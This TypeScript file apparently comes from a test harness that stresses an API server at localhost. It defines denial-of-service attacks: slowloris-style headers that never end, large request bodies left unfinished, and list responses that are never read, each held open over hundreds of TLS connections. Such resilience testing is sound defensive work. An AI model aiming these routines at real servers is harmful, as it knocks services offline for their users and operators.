import { once } from 'node:events';
import { setTimeout as wait } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import type { Attack, AttackContext } from '../attack.ts';

const CONNECTIONS = 300;
const LASTING_MS = 8_000;
const COLLECTION = '/api/v1/namespaces/tenant/configmaps';
const VALUE_BYTES = 900_000;
const OBJECTS = 8;

/** Requests large lists, each with a different selector, without reading them. */
export const unreadLists: Attack = {
  name: 'unread lists',
  async run(context) {
    const { tenant } = context;
    const labels = Object.fromEntries(Array.from({ length: 50 }, (_, i) => [`l${i}`, 'x']));
    const data = { large: 'x'.repeat(VALUE_BYTES) };
    for (let i = 0; i < OBJECTS; i++) {
      await tenant.send('POST', COLLECTION, { body: { metadata: { name: `unread-${i}`, labels }, data } });
    }
    await hold(context, CONNECTIONS / 3, (i) => request(context, 'GET', `?labelSelector=l${i % 50}%3Dx`));
    for (let i = 0; i < OBJECTS; i++) await tenant.send('DELETE', `${COLLECTION}/unread-${i}`);
  },
};

/** Bodies of the largest size that are begun and never finished. */
export const unfinishedBodies: Attack = {
  name: 'unfinished bodies',
  async run(context) {
    const headers = 'Content-Type: application/json\r\nContent-Length: 3000000\r\n';
    const begun = `{"data":{"x":"${'y'.repeat(500_000)}`;
    await hold(context, CONNECTIONS, () => request(context, 'POST', '', headers) + begun);
  },
};

/** Requests whose headers never end. */
export const unfinishedHeaders: Attack = {
  name: 'unfinished headers',
  async run(context) {
    await hold(
      context,
      CONNECTIONS,
      () => `GET ${COLLECTION} HTTP/1.1\r\nHost: localhost\r\nX-Long: ${'x'.repeat(30_000)}`,
    );
  },
};

function request({ target }: AttackContext, method: string, query: string, headers = ''): string {
  const own = `Host: localhost\r\nAuthorization: Bearer ${target.tokens.tenant}\r\n`;
  return `${method} ${COLLECTION}${query} HTTP/1.1\r\n${own}${headers}\r\n`;
}

/** Opens connections that send a text and read nothing. */
async function hold({ target }: AttackContext, count: number, text: (i: number) => string): Promise<void> {
  const ca = await target.ca();
  const open = async (i: number): Promise<TLSSocket> => {
    const socket = connect({ port: target.port, host: '127.0.0.1', ca, ALPNProtocols: ['http/1.1'] });
    socket.on('error', () => undefined);
    await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]);
    socket.pause();
    socket.write(text(i));
    return socket;
  };
  const sockets = await Promise.all(Array.from({ length: count }, (_, i) => open(i)));
  await wait(LASTING_MS);
  for (const socket of sockets) socket.destroy();
}
